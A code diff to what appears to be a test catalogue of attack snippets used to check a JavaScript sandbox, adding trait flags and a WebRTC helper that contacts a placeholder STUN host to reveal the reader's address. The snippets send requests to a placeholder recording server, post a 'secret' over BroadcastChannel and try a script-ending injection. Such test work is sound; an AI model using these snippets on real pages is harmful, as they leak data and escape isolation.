@@ -1,13 +1,38 @@
 /** A snippet that attacks the page, the network, or the sandbox itself. */
 export interface Attack {
   name: string
-  /** `URL` stands for a server that records every request to it. */
+  /**
+   * `URL` stands for a server that records every connection and request to it, and `HOST` for its address and port, at
+   * which it also records packets without a connection.
+   */
   code: string
+  /** It keeps its thread busy, or takes much memory. */
+  isHeavy?: boolean
+  /**
+   * It navigates a frame. Browsers that don't know the header `Connection-Allowlist` may prepare a connection for that
+   * before they ask the policy. Nothing is sent.
+   */
+  navigates?: boolean
+}
+
+/** Marks the attacks with these names. */
+export function mark(
+  attacks: readonly Attack[],
+  traits: Omit<Attack, 'name' | 'code'>,
+  names: readonly string[],
+): Attack[] {
+  const unknown = names.filter((name) => !attacks.some((attack) => attack.name === name))
+  if (unknown.length > 0) throw new Error(`No attack is called ${unknown.join(', ')}.`)
+  return attacks.map((attack) => (names.includes(attack.name) ? { ...attack, ...traits } : attack))
 }
 
 /** Runs whatever the global object still has under a name. */
 const call = (name: string, use: string) =>
   `const found = (globalThis as any).${name}; console.log(typeof found); if (found) { const it: any = found; ${use} }`
+
+/** Asks the server for the reader's address, which browsers do without asking any policy. */
+export const connectPeer = (constructor: string) =>
+  `const peer = new ${constructor}({ iceServers: [{ urls: 'stun:HOST' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`
 
 const attempt = (code: string) => `try { ${code} } catch (error) { console.log(String(error)) }`
 
@@ -117,7 +142,7 @@ const NETWORK: readonly Attack[] = [
   ],
   ['BroadcastChannel', call('BroadcastChannel', "new it('hacked').postMessage('secret')")],
   ['a font', call('FontFace', "await new it('hacked', 'url(URL/font)').load()")],
-  ['RTCPeerConnection', call('RTCPeerConnection', "new it({ iceServers: [{ urls: 'stun:localhost:1' }] })")],
+  ['RTCPeerConnection', call('RTCPeerConnection', connectPeer('it'))],
   ['an image', call('Image', "new it().src = 'URL/image'")],
   ['WebAssembly by streaming', attempt("await WebAssembly.compileStreaming(fetch('URL/wasm'))")],
   ['a source map', 'console.log(1)\n//# sourceMappingURL=URL/map'],
@@ -275,12 +300,11 @@ const TRAPS: readonly Attack[] = [
   ['code that ends the script', "console.log('</script><script>alert(1)</script>')"],
 ].map(([name = '', code = '']) => ({ name, code }))
 
+const ALL = [...PAGE, ...STORAGE, ...NETWORK, ...CHANNEL, ...EXHAUSTION, ...TRAPS]
+
 /** All attacks; their names are unique. */
-export const ATTACKS: readonly Attack[] = [
-  ...PAGE,
-  ...STORAGE,
-  ...NETWORK,
-  ...CHANNEL,
-  ...EXHAUSTION,
-  ...TRAPS,
-]
+export const ATTACKS: readonly Attack[] = mark(
+  mark(ALL, { navigates: true }, ['an iframe', 'location', 'location.replace']),
+  { isHeavy: true },
+  [...EXHAUSTION.map(({ name }) => name), 'postMessage', 'a proxy that never ends'],
+)
